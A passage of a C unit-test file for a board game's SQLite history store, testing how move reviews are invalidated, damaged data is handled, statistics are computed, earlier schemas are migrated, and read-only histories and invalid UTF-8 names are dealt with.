  g_assert_true (tessera_store_save_review (store, game_ids[0], review, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count_review_rows (fixture->path, game_ids[0]), ==, 1 + 2);
  g_assert_cmpint (query_int (fixture->path, "SELECT count (*) FROM review_players WHERE lost = 999"), ==, 2);
  /* A review read back is saved with its players' turns, which it does not carry itself. */
  g_assert_cmpint (query_int (fixture->path, "SELECT total (turns) FROM review_players WHERE lost != 999"), ==, 5);

  /* No such game; a review of another number of players. */
  g_assert_null (tessera_store_load_review (store, 99, record, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_clear_error (&error);
  g_assert_false (tessera_store_save_review (store, 99, review, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_clear_error (&error);
  other_id = tessera_store_import_record (store, three_players, &already, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_store_save_review (store, other_id, review, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
  g_clear_error (&error);
  g_assert_cmpint (count_review_rows (fixture->path, other_id), ==, 0);
}

/* A review describes the game's moves as they were: whatever changes the game's events (undo,
 * a move entered, a correction, SQL of another program), or its box, takes its review out,
 * with its seats' figures; the other game's stays. So does deleting the game. */
static void
test_review_dropped (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) original = tessera_test_load_record ("review", "closing-city.json", NULL);
  g_autoptr(TesseraReview) other_review = NULL;
  g_autoptr(TesseraReview) other_read = NULL;
  g_autofree char *update = NULL;
  gint64 game_id, other_id;

  g_assert_no_error (error);
  game_id = import_review_record (store, "closing-city.json", FALSE);
  other_id = import_review_record (store, "tower-capture.json", FALSE);
  other_review = review_stored_game (store, other_id);

  /* Undo. */
  tessera_review_free (review_stored_game (store, game_id));
  g_assert_true (tessera_store_truncate (store, game_id, 4, &error));
  g_assert_no_error (error);
  g_assert_null (load_stored_review (store, game_id));
  g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);
  g_assert_cmpint (count_review_rows (fixture->path, other_id), ==, 1 + 2);

  /* A move entered. */
  {
    g_autoptr(TesseraRecord) record = NULL;
    g_autoptr(TesseraGame) game = NULL;

    tessera_review_free (review_stored_game (store, game_id));
    record = tessera_store_load_record (store, game_id, &error);
    g_assert_no_error (error);
    game = tessera_game_new_from_record (record, G_MAXUINT, &error);
    g_assert_no_error (error);
    g_assert_true (tessera_game_apply (game, g_ptr_array_index (original->events, 4), &error));
    g_assert_no_error (error);
    g_assert_true (tessera_store_save_event (store, game_id, game, &error));
    g_assert_no_error (error);
    g_assert_null (load_stored_review (store, game_id));
    g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);
  }

  /* A correction: the last turn made the review's best. */
  {
    g_autoptr(TesseraReview) review = review_stored_game (store, game_id);
    g_autoptr(TesseraGame) game = NULL;
    guint n_turns;
    const TesseraReviewTurn *turns = tessera_review_get_turns (review, &n_turns);

    game = tessera_store_replace_event (store, game_id, turns[n_turns - 1].event, turns[n_turns - 1].best_turn, &error);
    g_assert_no_error (error);
    g_assert_nonnull (game);
    g_assert_null (load_stored_review (store, game_id));
    g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);
  }

  /* Another program's change of an event. */
  tessera_review_free (review_stored_game (store, game_id));
  update = g_strdup_printf ("UPDATE events SET event = event WHERE game = %" G_GINT64_FORMAT " AND sequence = 0", game_id);
  run_sql (fixture->path, update);
  g_assert_null (load_stored_review (store, game_id));
  g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);

  /* The box corrected: the tiles left are what the review counted with. */
  {
    g_autoptr(TesseraRecord) header = tessera_store_load_record (store, game_id, &error);

    g_assert_no_error (error);
    tessera_review_free (review_stored_game (store, game_id));
    tessera_record_set_box_count (header, "A", 1);
    g_assert_true (tessera_store_save_box (store, game_id, header, &error));
    g_assert_no_error (error);
    g_assert_null (load_stored_review (store, game_id));
    g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);
  }

  /* The game deleted. */
  tessera_review_free (review_stored_game (store, game_id));
  g_assert_true (tessera_store_delete_game (store, game_id, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count_review_rows (fixture->path, game_id), ==, 0);

  /* The other game's review was never touched. */
  g_assert_cmpint (count_review_rows (fixture->path, other_id), ==, 1 + 2);
  other_read = load_stored_review (store, other_id);
  g_assert_nonnull (other_read);
  assert_same_review (other_read, other_review);
  g_clear_object (&store);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM pragma_foreign_key_check"), ==, 0);
}

/* A review counted in another estimate (an earlier Tessera's) is none: the game is to be
 * reviewed again. A stored review that cannot be read (not JSON, too deep, not of the game) is
 * an error that names the game; the history still opens, its games still load, and the review
 * stays as it is until it is replaced. */
static void
test_review_unreadable (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = NULL;
  g_autoptr(TesseraReview) review = NULL;
  g_autoptr(TesseraReview) other_review = NULL;
  g_autofree char *deep = tessera_test_nested_arrays (200000);
  g_autofree char *other_method = NULL;
  g_autofree char *other_method_beside = NULL;
  g_autofree char *not_json = NULL;
  g_autofree char *too_deep = NULL;
  g_autofree char *another_games = NULL;
  g_autofree char *expected = NULL;
  gint64 game_id, other_id;
  TesseraReviewStats stats;

  g_assert_no_error (error);
  game_id = import_review_record (store, "closing-city.json", TRUE);
  other_id = import_review_record (store, "tower-capture.json", TRUE);
  review = review_stored_game (store, game_id);
  other_review = review_stored_game (store, other_id);
  record = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);

  /* Another estimate, as the review says, or as the history has it beside the review. */
  other_method = g_strdup_printf ("UPDATE reviews SET review = json_set (review, '$.method', 'tessera-estimate 0') "
                                  "WHERE game = %" G_GINT64_FORMAT, game_id);
  run_sql (fixture->path, other_method);
  g_assert_null (load_stored_review (store, game_id));
  g_assert_true (tessera_store_save_review (store, game_id, review, &error));
  g_assert_no_error (error);
  other_method_beside = g_strdup_printf ("UPDATE reviews SET method = 'tessera-estimate 0' WHERE game = %" G_GINT64_FORMAT,
                                         game_id);
  run_sql (fixture->path, other_method_beside);
  g_assert_null (load_stored_review (store, game_id));
  /* Nor does it count in the statistics; the other game's does. */
  g_assert_true (tessera_store_get_review_stats (store, "Anna", &stats, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (stats.n_games, ==, 1);
  g_assert_cmpuint (stats.n_turns, ==, tessera_review_get_players (other_review)[0].n_turns);

  not_json = g_strdup_printf ("UPDATE reviews SET review = '{' WHERE game = %" G_GINT64_FORMAT, game_id);
  too_deep = g_strdup_printf ("UPDATE reviews SET review = '%s' WHERE game = %" G_GINT64_FORMAT, deep, game_id);
  another_games = g_strdup_printf ("UPDATE reviews SET review = (SELECT review FROM reviews AS other WHERE other.game != "
                                   "reviews.game) WHERE game = %" G_GINT64_FORMAT, game_id);
  expected = g_strdup_printf ("the history %s, game %" G_GINT64_FORMAT " of ", fixture->path, game_id);
  {
    const char * const damage[] = { not_json, too_deep, another_games };

    for (guint i = 0; i < G_N_ELEMENTS (damage); i++)
      {
        g_autoptr(TesseraRecord) loaded = NULL;
        g_autoptr(TesseraReview) read = NULL;
        g_autoptr(TesseraReview) other_read = NULL;
        g_autoptr(GPtrArray) games = NULL;
        g_autoptr(GBytes) before = NULL;
        g_autoptr(GBytes) after = NULL;

        g_assert_true (tessera_store_save_review (store, game_id, review, &error));
        g_assert_no_error (error);
        g_clear_object (&store);
        run_sql (fixture->path, damage[i]);
        before = read_file (fixture->path);

        store = tessera_store_open (fixture->path, &error);
        g_assert_no_error (error);
        read = tessera_store_load_review (store, game_id, record, &error);
        g_assert_null (read);
        g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_HISTORY);
        g_assert_true (g_str_has_prefix (error->message, expected));
        g_assert_nonnull (strstr (error->message, "its review cannot be read"));
        g_test_message ("%s", error->message);
        g_clear_error (&error);
        /* The game itself, the other game's review and the list of games still read. */
        loaded = tessera_store_load_record (store, game_id, &error);
        g_assert_no_error (error);
        g_assert_cmpuint (loaded->events->len, ==, record->events->len);
        other_read = load_stored_review (store, other_id);
        assert_same_review (other_read, other_review);
        games = tessera_store_list_games (store, &error);
        g_assert_no_error (error);
        g_assert_cmpuint (games->len, ==, 2);
        g_clear_object (&store);
        after = read_file (fixture->path);
        g_assert_true (g_bytes_equal (before, after));
        store = tessera_store_open (fixture->path, &error);
        g_assert_no_error (error);
      }
  }
}

/* A player's figures expected from the reviews themselves. */
typedef struct
{
  guint  n_games;
  guint  n_turns;
  double accuracy_turns;   /* accuracy x turns, summed */
  double lost;
  double luck;
} ReviewSums;

static void
add_review_sums (ReviewSums                *sums,
                 const TesseraReviewPlayer *player)
{
  sums->n_games++;
  sums->n_turns += player->n_turns;
  sums->accuracy_turns += player->accuracy * player->n_turns;
  sums->lost += player->lost;
  sums->luck += player->luck;
}

static double
turn_weighted (double sum,
               guint  n_turns)
{
  return n_turns > 0 ? sum / n_turns : 0.0;
}

/* Each player's figures over their finished games with a review (in progress or without a
 * review, a game counts for nothing), against the reviews' own players added up here: the
 * accuracy weighted by turns, the points lost per turn, the luck per game; and the same for
 * each two players of those games, the most games together first. */
static void
test_review_statistics (Fixture       *fixture,
                        gconstpointer  data)
{
  static const char * const names[] = { "Anna", "Bram", "Carmen" };
  ReviewSums sums[G_N_ELEMENTS (names)] = { { 0 } };
  ReviewSums against[G_N_ELEMENTS (names)][G_N_ELEMENTS (names)] = { { { 0 } } };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) three_players = tessera_random_game (41, 3);
  g_autoptr(TesseraRecord) not_reviewed = tessera_random_game (40, 2);
  g_autoptr(GPtrArray) reviews = g_ptr_array_new_with_free_func ((GDestroyNotify) tessera_review_free);
  g_autoptr(GArray) none = NULL;
  TesseraReviewStats stats;
  gint64 three_id;
  gboolean already;

  g_assert_no_error (error);
  /* Finished and reviewed: these count. */
  g_ptr_array_add (reviews, review_stored_game (store, import_review_record (store, "closing-city.json", TRUE)));
  g_ptr_array_add (reviews, review_stored_game (store, import_review_record (store, "tower-capture.json", TRUE)));
  three_id = tessera_store_import_record (store, three_players, &already, &error);
  g_assert_no_error (error);
  g_ptr_array_add (reviews, review_stored_game (store, three_id));
  /* In progress though reviewed, or finished without a review: these do not. */
  tessera_review_free (review_stored_game (store, import_review_record (store, "closing-city.json", FALSE)));
  tessera_store_import_record (store, not_reviewed, &already, &error);
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count (*) FROM games WHERE state = 'finished'"), ==, 4);

  for (guint i = 0; i < reviews->len; i++)
    {
      TesseraReview *review = g_ptr_array_index (reviews, i);
      const TesseraReviewPlayer *players = tessera_review_get_players (review);
      guint n_players = tessera_review_get_n_players (review);

      for (guint p = 0; p < n_players; p++)
        {
          g_assert_cmpstr (tessera_review_get_player_names (review)[p], ==, names[p]);
          add_review_sums (&sums[p], &players[p]);
          for (guint q = 0; q < n_players; q++)
            if (q != p)
              add_review_sums (&against[p][q], &players[p]);
        }
    }

  for (guint p = 0; p < G_N_ELEMENTS (names); p++)
    {
      g_autofree char *upper = g_utf8_strup (names[p], -1);
      g_autoptr(GArray) opponents = NULL;
      guint previous = G_MAXUINT;

      g_assert_true (tessera_store_get_review_stats (store, upper, &stats, &error));
      g_assert_no_error (error);
      g_assert_cmpuint (stats.n_games, ==, sums[p].n_games);
      g_assert_cmpuint (stats.n_turns, ==, sums[p].n_turns);
      g_assert_cmpfloat_with_epsilon (stats.accuracy, turn_weighted (sums[p].accuracy_turns, sums[p].n_turns), 1e-9);
      g_assert_cmpfloat_with_epsilon (stats.lost_per_turn, turn_weighted (sums[p].lost, sums[p].n_turns), 1e-9);
      g_assert_cmpfloat_with_epsilon (stats.luck_per_game, sums[p].luck / sums[p].n_games, 1e-9);

      opponents = tessera_store_list_opponent_reviews (store, names[p], &error);
      g_assert_no_error (error);
      g_assert_cmpuint (opponents->len, ==, G_N_ELEMENTS (names) - 1);
      for (guint i = 0; i < opponents->len; i++)
        {
          const TesseraOpponentReview *found = &g_array_index (opponents, TesseraOpponentReview, i);
          const ReviewSums *mine, *theirs;
          guint q = 0;

          while (!g_str_equal (names[q], found->opponent))
            q++;
          mine = &against[p][q];
          theirs = &against[q][p];
          g_assert_cmpuint (found->n_games, ==, mine->n_games);
          g_assert_cmpfloat_with_epsilon (found->accuracy, turn_weighted (mine->accuracy_turns, mine->n_turns), 1e-9);
          g_assert_cmpfloat_with_epsilon (found->opponent_accuracy,
                                          turn_weighted (theirs->accuracy_turns, theirs->n_turns), 1e-9);
          g_assert_cmpfloat_with_epsilon (found->luck, mine->luck / mine->n_games, 1e-9);
          g_assert_cmpfloat_with_epsilon (found->opponent_luck, theirs->luck / theirs->n_games, 1e-9);
          /* The most games together first. */
          g_assert_cmpuint (found->n_games, <=, previous);
          previous = found->n_games;
        }
    }
  /* Carmen played one reviewed game, with both. */
  g_assert_cmpuint (sums[2].n_games, ==, 1);
  g_assert_cmpuint (against[0][1].n_games, ==, 3);

  /* A player renamed is the same player. */
  g_assert_true (tessera_store_rename_player (store, "Bram", "Bram van Dijk", &error));
  g_assert_no_error (error);
  g_assert_true (tessera_store_get_review_stats (store, "bram van dijk", &stats, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (stats.n_games, ==, sums[1].n_games);

  /* A player without reviewed games has none; one the history does not know is refused. */
  g_assert_true (tessera_store_delete_game (store, three_id, &error));
  g_assert_no_error (error);
  g_assert_true (tessera_store_get_review_stats (store, "Carmen", &stats, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (stats.n_games, ==, 0);
  g_assert_cmpuint (stats.n_turns, ==, 0);
  g_assert_cmpfloat (stats.accuracy, ==, 0.0);
  g_assert_cmpfloat (stats.lost_per_turn, ==, 0.0);
  g_assert_cmpfloat (stats.luck_per_game, ==, 0.0);
  none = tessera_store_list_opponent_reviews (store, "Carmen", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (none->len, ==, 0);
  g_assert_false (tessera_store_get_review_stats (store, "Zoe", &stats, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_assert_cmpstr (error->message, ==, "the history has no player Zoe");
  g_clear_error (&error);
  g_assert_null (tessera_store_list_opponent_reviews (store, "Zoe", &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
}

/* Histories of every schema version -------------------------------------------------------- */

/* tests/store/history-vN.db is a history as schema N wrote it (tessera-cli import of these
 * records: the first three from schema 1 on, the box from schema 3 on, when and where it was
 * played from schema 4 on, E13 played without aids from schema 5 on; schema 6 changed no table,
 * and its file is schema 5's brought up to date; schema 7 adds the reviews, and its file is the
 * records imported anew, without a review, E13 then marked without aids with SQL as tessera-cli
 * cannot); a new schema version adds its own file and keeps the old ones. */
static const struct
{
  const char *file;
  guint       since;   /* the first schema whose saved history holds it */
} saved_records[] = {
  { "base/e13-farm-page.json", 1 },
  { "wheel/e20-taxes-blue-8-red-3.json", 1 },
  { "tower/e28-first-floor-range-5.json", 1 },
  { "box/extra-copy-drawn.json", 3 },
  { "played/late-night-across-months.json", 4 },
};

/* Each saved history opens at the current schema (a copy: the saved file stays as it is), and
 * its games come back as the records they were imported from, without reviews until one is
 * saved. */
static void
test_earlier_schemas (Fixture       *fixture,
                      gconstpointer  data)
{
  for (guint version = 1; version <= TESSERA_STORE_SCHEMA_VERSION; version++)
    {
      g_autofree char *name = g_strdup_printf ("history-v%u.db", version);
      g_autofree char *saved = g_test_build_filename (G_TEST_DIST, "store", name, NULL);
      g_autoptr(GBytes) bytes = read_file (saved);
      g_autoptr(GError) error = NULL;
      g_autoptr(TesseraStore) store = NULL;
      g_autoptr(TesseraReview) review = NULL;
      g_autoptr(TesseraReview) read = NULL;
      gint64 n_finished;

      g_file_set_contents (fixture->path, g_bytes_get_data (bytes, NULL), (gssize) g_bytes_get_size (bytes), &error);
      g_assert_no_error (error);
      store = tessera_store_open (fixture->path, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (tessera_store_get_schema_version (store), ==, TESSERA_STORE_SCHEMA_VERSION);
      for (guint i = 0; i < G_N_ELEMENTS (saved_records) && saved_records[i].since <= version; i++)
        {
          g_autofree char *file = g_test_build_filename (G_TEST_DIST, "records", saved_records[i].file, NULL);
          g_autofree char *text = NULL;
          g_autoptr(TesseraRecord) record = NULL;
          g_autoptr(TesseraRecord) loaded = NULL;
          g_autofree char *expected = NULL;
          g_autofree char *found = NULL;

          g_file_get_contents (file, &text, NULL, &error);
          g_assert_no_error (error);
          record = tessera_record_load_from_data (text, -1, &error);
          g_assert_no_error (error);
          loaded = tessera_store_load_record (store, (gint64) i + 1, &error);
          g_assert_no_error (error);
          expected = tessera_record_to_data (record);
          found = tessera_record_to_data (loaded);
          g_assert_cmpstr (found, ==, expected);
          g_assert_null (tessera_store_load_review (store, (gint64) i + 1, loaded, &error));
          g_assert_no_error (error);
        }
      /* Schema 7's reviews, none before: E13's is kept with each of its seats' figures. */
      g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM sqlite_schema WHERE type = 'table' AND name IN "
                                                 "('reviews', 'review_players')"), ==, 2);
      g_assert_cmpint (query_int (fixture->path, "SELECT (SELECT count(*) FROM reviews) + (SELECT count(*) FROM review_players)"), ==, 0);
      review = review_stored_game (store, 1);
      read = load_stored_review (store, 1);
      assert_same_review (read, review);
      g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM review_players WHERE game = 1"), ==, 4);
      /* Only a game whose table chose it is played without aids; none did before schema 5. */
      for (gint64 id = 1; id <= 2; id++)
        {
          gboolean purist = TRUE;

          g_assert_true (tessera_store_get_purist (store, id, &purist, &error));
          g_assert_no_error (error);
          g_assert_cmpint (purist, ==, id == 1 && version >= 5);
        }
      g_clear_object (&store);
      /* E13 is finished, and from schema 4 on again with when and where it was played. */
      n_finished = version >= 4 ? 2 : 1;
      g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'finished'"), ==, n_finished);
      /* Schema 2's points per category, filled in for games finished before it. */
      g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE final_score IS NOT NULL"), ==, 4 * n_finished);
      g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE final_score IS NOT NULL AND "
                                                 "final_score IS NOT road + city + cloister + farm + wheel + crown + ransom + adjust"), ==, 0);
      g_assert_cmpint (query_int (fixture->path, "SELECT total (farm) FROM game_players"), ==, 36 * n_finished);
      g_unlink (fixture->path);
    }
}

/* tests/store/history-v5-last-tile-open.db is a schema 5 history as a Tessera before rule
 * decision B11 left tests/records/box/b11-last-tile-ends-game.json (game 6): its last tile
 * placed, no "end", so still in progress. The update to schema 6 replays it and finishes it with
 * the final scores the engine gives, 7 and 3 (see test-box); the games in progress whose box
 * still holds tiles stay so, and the finished game is recognised when imported again. */
static void
test_last_tile_games_finished (Fixture       *fixture,
                               gconstpointer  data)
{
  g_autofree char *saved = g_test_build_filename (G_TEST_DIST, "store", "history-v5-last-tile-open.db", NULL);
  g_autofree char *file = g_test_build_filename (G_TEST_DIST, "records", "box", "b11-last-tile-ends-game.json", NULL);
  g_autoptr(GBytes) bytes = read_file (saved);
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = NULL;
  g_autofree char *text = NULL;
  TesseraImportResult result = { 0 };
  const TesseraRecord *records[1];

  g_file_set_contents (fixture->path, g_bytes_get_data (bytes, NULL), (gssize) g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'in-progress'"), ==, 4);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE game = 6 AND final_score IS NULL"), ==, 2);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (tessera_store_get_schema_version (store), ==, TESSERA_STORE_SCHEMA_VERSION);
  g_assert_cmpint (query_int (fixture->path, "SELECT state = 'finished' AND ended IS NOT NULL FROM games WHERE id = 6"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT final_score FROM game_players WHERE game = 6 AND seat = 0"), ==, 7);
  g_assert_cmpint (query_int (fixture->path, "SELECT final_score FROM game_players WHERE game = 6 AND seat = 1"), ==, 3);
  g_assert_cmpint (query_int (fixture->path, "SELECT rank FROM game_players WHERE game = 6 AND seat = 1"), ==, 2);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'in-progress'"), ==, 3);

  g_file_get_contents (file, &text, NULL, &error);
  g_assert_no_error (error);
  record = tessera_record_load_from_data (text, -1, &error);
  g_assert_no_error (error);
  records[0] = record;
  g_assert_true (tessera_store_import_records (store, records, 1, &result, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (result.already);
  g_assert_cmpint (result.game_id, ==, 6);
  tessera_import_result_clear (&result);
}

/* A history marked read-only (a copy from a club's archive, a file on a write-protected
 * stick): opened read-only and said so; reading and exporting work; every write is refused
 * with the reason, and the file stays byte for byte as it was. Root may write any file, so
 * the file's own mode decides, not only whether this process could. */
static void
test_read_only (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (21, 2);
  g_autoptr(TesseraRecord) other = tessera_random_game (22, 3);
  g_autoptr(TesseraRecord) read_back = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *expected = NULL;
  gboolean already;
  gint64 game_id;

  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_store_is_read_only (store));
  g_clear_object (&store);
  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
  before = read_file (fixture->path);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_is_read_only (store));
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 1);
  read_back = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (read_back->events->len, ==, record->events->len);
  csv = tessera_store_export_csv (store, &error);
  g_assert_no_error (error);
  g_assert_nonnull (csv);

  expected = g_strdup_printf ("the history %s is read-only: nothing can be saved in it. Make the file writable to "
                              "add or change games; it can still be looked through and exported.", fixture->path);
  g_assert_cmpint (tessera_store_import_record (store, other, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_READ_ONLY);
  g_assert_cmpstr (error->message, ==, expected);
  g_clear_error (&error);
  g_assert_false (tessera_store_delete_game (store, game_id, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_READ_ONLY);
  g_clear_error (&error);
  g_clear_object (&store);

  after = read_file (fixture->path);
  g_assert_true (g_bytes_equal (before, after));
  g_chmod (fixture->path, 0644);
}

/* Whether @path-@suffix is there. */
static gboolean
has_leftover (const char *path,
              const char *suffix)
{
  g_autofree char *leftover = g_strconcat (path, suffix, NULL);

  return g_file_test (leftover, G_FILE_TEST_EXISTS);
}

/* A history read while it was marked read-only leaves nothing beside it (a 444 -shm used to
 * stay, and once the file was writable again every write failed on it), and it is written
 * again as soon as it is made writable, as the message says. */
static void
test_read_only_leaves_nothing (Fixture       *fixture,
                               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (91, 2);
  g_autoptr(GPtrArray) games = NULL;
  gboolean already;

  make_history_with_games (fixture->path, 2);
  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));
  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_is_read_only (store));
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 2);
  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));
  g_clear_object (&store);
  g_assert_false (has_leftover (fixture->path, "-wal") || has_leftover (fixture->path, "-shm"));

  g_assert_cmpint (g_chmod (fixture->path, 0666), ==, 0);
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_store_is_read_only (store));
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
  g_assert_no_error (error);
}

/* The log and index a read-only reader left behind with the file's 444 (an earlier Tessera, or
 * SQLite's own shell) are given the file's permission again when it is opened writable: as an
 * ordinary user every write failed on them ("attempt to write a readonly database"). */
static void
test_read_only_leftovers_mended (Fixture       *fixture,
                                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (92, 2);
  g_autofree char *shm = g_strconcat (fixture->path, "-shm", NULL);
  gboolean already;
  GStatBuf info;

  make_history_with_games (fixture->path, 1);
  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
  /* What the read-only open of before did, and leaves. */
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, 1);
  g_assert_cmpint (g_stat (shm, &info), ==, 0);
  g_assert_cmpint (info.st_mode & 0777, ==, 0444);

  g_assert_cmpint (g_chmod (fixture->path, 0644), ==, 0);
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_false (tessera_store_is_read_only (store));
  g_assert_cmpint (g_stat (shm, &info), ==, 0);
  g_assert_cmpint (info.st_mode & 0777, ==, 0644);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
  g_assert_no_error (error);
}

/* A history in a folder marked read-only (a shared folder, a write-protected stick) is read,
 * without anything made beside it, and writes are refused saying why. The folder's own mode
 * decides, as the file's does, so root, who could write there, reads it so too. */
static void
test_read_only_folder (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *folder = g_build_filename (fixture->folder, "shared", NULL);
  g_autofree char *path = g_build_filename (folder, "history.db", NULL);
  g_autofree char *expected = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (93, 2);
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GDir) dir = NULL;
  gboolean already;

  make_history_with_games (path, 2);
  g_assert_cmpint (g_chmod (folder, 0555), ==, 0);
  store = tessera_store_open (path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_is_read_only (store));
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 2);
  loaded = tessera_store_load_record (store, ((TesseraGameSummary *) g_ptr_array_index (games, 0))->id, &error);
  g_assert_no_error (error);
  expected = g_strdup_printf ("the history %s is in a read-only folder: nothing can be saved in it. Make the folder "
                              "writable to add or change games; it can still be looked through and exported.", path);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_READ_ONLY);
  g_assert_cmpstr (error->message, ==, expected);
  g_clear_error (&error);
  g_clear_object (&store);
  /* Nothing but the history in the folder. */
  dir = g_dir_open (folder, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (g_dir_read_name (dir), ==, "history.db");
  g_assert_null (g_dir_read_name (dir));
  g_assert_cmpint (g_chmod (folder, 0755), ==, 0);
}

/* A history of two games where the first player's name, in the players and in the seats, and
 * the first game's place are stored as an earlier reader stored "\ud800Anna": ED A0 80 "nna". */
static void
make_history_with_invalid_name (const char *path)
{
  make_history_with_games (path, 2);
  run_sql (path,
           "UPDATE players SET name = CAST (X'EDA0806E6E61' AS TEXT), name_key = CAST (X'EDA0806E6E61' AS TEXT) WHERE id = 1;"
           "UPDATE game_players SET name = CAST (X'EDA0806E6E61' AS TEXT) WHERE player = 1;"
           "UPDATE games SET played = CAST (X'7B22706C616365223A2022EDA0804B6C7562227D' AS TEXT) WHERE id = 1;");
  g_assert_cmpint (query_int (path, "SELECT count(*) FROM players WHERE hex (name) = 'EDA0806E6E61'"), ==, 1);
}

/* A name an earlier reader let in as bytes that are not UTF-8 ("\ud800Anna" became ED A0 80
 * "nna") is mended when the history is opened writable: one U+FFFD for the bad bytes, in the
 * players, the game's seats and its place, with the player's key; every list and record is
 * valid text again, and the player is found by the mended name. */
static void
test_invalid_utf8_mended (Fixture       *fixture,
                          gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GPtrArray) players = NULL;
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(TesseraPlayerStats) stats = NULL;
  g_autofree char *data_text = NULL;
  const char *mended = "\xef\xbf\xbdnna";

  make_history_with_invalid_name (fixture->path);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
